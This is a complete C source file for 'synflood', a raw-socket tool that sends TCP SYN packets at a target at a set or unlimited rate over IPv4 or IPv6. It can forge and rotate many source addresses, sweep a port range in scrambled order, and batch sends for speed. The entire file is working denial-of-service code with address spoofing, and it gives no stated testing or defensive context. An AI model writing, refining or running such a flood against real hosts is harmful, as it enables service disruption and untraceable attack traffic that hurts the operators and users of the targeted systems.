/* synflood: sends raw SYNs from one source address, or in turns from many, at a fixed rate, IPv4 or IPv6.
 *
 * usage: synflood SRC[+SOURCES] DST FIRST_PORT LAST_PORT COUNT RATE
 *   SOURCES: so many addresses from SRC on (IPv4), 1 unless given. The ports are visited in a scrambled order, again and again; source ports and sequence numbers
 *   count up, so that each SYN is a connection attempt of its own. RATE 0: as fast as it goes.
 *
 * Prints sent=N secs=S rate=R. */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <netinet/ip.h>
#include <netinet/ip6.h>
#include <netinet/tcp.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define BATCH 64

static uint8_t packets[BATCH][60]; /* the longer one: IPv6 header and TCP header */
static struct mmsghdr messages[BATCH];
static struct iovec vectors[BATCH];

static double now(void)
{
	struct timespec t;

	clock_gettime(CLOCK_MONOTONIC, &t);
	return t.tv_sec + t.tv_nsec / 1e9;
}

static uint32_t sum(const void *data, int len, uint32_t start)
{
	const uint8_t *b = data;

	for (int i = 0; i < len; i += 2)
		start += b[i] << 8 | b[i + 1];
	return start;
}

static uint16_t fold(uint32_t s)
{
	while (s >> 16)
		s = (s & 0xffff) + (s >> 16);
	return htons(~s & 0xffff);
}

/* Writes the IP header; returns its length and the sum of the TCP pseudo header. */
static int ip_header(uint8_t *p, int v6, const char *src, const char *dst, uint32_t *pseudo)
{
	if (v6) {
		struct ip6_hdr *h = (void *)p;
		h->ip6_flow = htonl(6u << 28);
		h->ip6_plen = htons(20);
		h->ip6_nxt = IPPROTO_TCP;
		h->ip6_hops = 64;
		inet_pton(AF_INET6, src, &h->ip6_src);
		inet_pton(AF_INET6, dst, &h->ip6_dst);
		*pseudo = sum(&h->ip6_src, 32, IPPROTO_TCP + 20);
		return 40;
	}
	struct iphdr *h = (void *)p;
	h->version = 4;
	h->ihl = 5;
	h->ttl = 64;
	h->protocol = IPPROTO_TCP;
	h->tot_len = htons(40);
	inet_pton(AF_INET, src, &h->saddr);
	inet_pton(AF_INET, dst, &h->daddr);
	h->check = fold(sum(h, 20, 0));
	*pseudo = sum(&h->saddr, 8, IPPROTO_TCP + 20);
	return 20;
}

/* Gives a packet of IPv4 another source; returns the sum of the TCP pseudo header. */
static uint32_t from(uint8_t *p, uint32_t source)
{
	struct iphdr *h = (void *)p;

	h->saddr = htonl(source);
	h->check = 0;
	h->check = fold(sum(h, 20, 0));
	return sum(&h->saddr, 8, IPPROTO_TCP + 20);
}

static void tcp_header(uint8_t *p, uint32_t number, int port, uint32_t pseudo)
{
	struct tcphdr *t = (void *)p;

	t->source = htons(1024 + number % 64000);
	t->dest = htons(port);
	t->seq = htonl(number * 2654435761u);
	t->doff = 5;
	t->syn = 1;
	t->window = htons(1024);
	t->check = 0;
	t->check = fold(sum(t, 20, pseudo));
}

int main(int argc, char **argv)
{
	if (argc != 7) {
		fprintf(stderr, "usage: synflood SRC[+SOURCES] DST FIRST_PORT LAST_PORT COUNT RATE\n");
		return 2;
	}
	int v6 = strchr(argv[1], ':') != NULL, first = atoi(argv[3]), ports = atoi(argv[4]) - first + 1;
	char *plus = strchr(argv[1], '+');
	long count = atol(argv[5]), sent = 0, sources = plus ? atol(plus + 1) : 1;
	struct in_addr base = { 0 };
	double rate = atof(argv[6]);
	int s = socket(v6 ? AF_INET6 : AF_INET, SOCK_RAW, IPPROTO_RAW), buffer = 8 << 20, step = 7, len = 0;
	struct sockaddr_in6 to6 = { .sin6_family = AF_INET6 };
	struct sockaddr_in to4 = { .sin_family = AF_INET };
	uint32_t pseudo = 0;

	if (s < 0) {
		perror("synflood: socket");
		return 1;
	}
	if (plus)
		*plus = 0;
	if (!v6)
		inet_pton(AF_INET, argv[1], &base);
	setsockopt(s, SOL_SOCKET, SO_SNDBUFFORCE, &buffer, sizeof buffer);
	inet_pton(AF_INET6, argv[2], &to6.sin6_addr);
	inet_pton(AF_INET, argv[2], &to4.sin_addr);
	while (ports % step == 0)
		step += 2;
	for (int i = 0; i < BATCH; i++) {
		len = ip_header(packets[i], v6, argv[1], argv[2], &pseudo);
		vectors[i] = (struct iovec){ packets[i], len + 20 };
		messages[i].msg_hdr.msg_iov = &vectors[i];
		messages[i].msg_hdr.msg_iovlen = 1;
		messages[i].msg_hdr.msg_name = v6 ? (void *)&to6 : (void *)&to4;
		messages[i].msg_hdr.msg_namelen = v6 ? sizeof to6 : sizeof to4;
	}
	double begin = now();
	while (sent < count) {
		long batch = count - sent < BATCH ? count - sent : BATCH;
		if (rate > 0) {
			double due = (now() - begin) * rate - sent;
			if (due < 1) {
				usleep(50);
				continue;
			}
			if (due < batch)
				batch = due;
		}
		for (int i = 0; i < batch; i++) {
			if (sources > 1)
				pseudo = from(packets[i], ntohl(base.s_addr) + (sent + i) % sources);
			tcp_header(packets[i] + len, sent + i, first + (sent + i) * step % ports, pseudo);
		}
		int n = sendmmsg(s, messages, batch, 0);
		if (n < 0) {
			perror("synflood: sendmmsg");
			return 1;
		}
		sent += n;
	}
	double seconds = now() - begin;
	printf("sent=%ld secs=%.4f rate=%.0f\n", sent, seconds, sent / seconds);
	return 0;
}
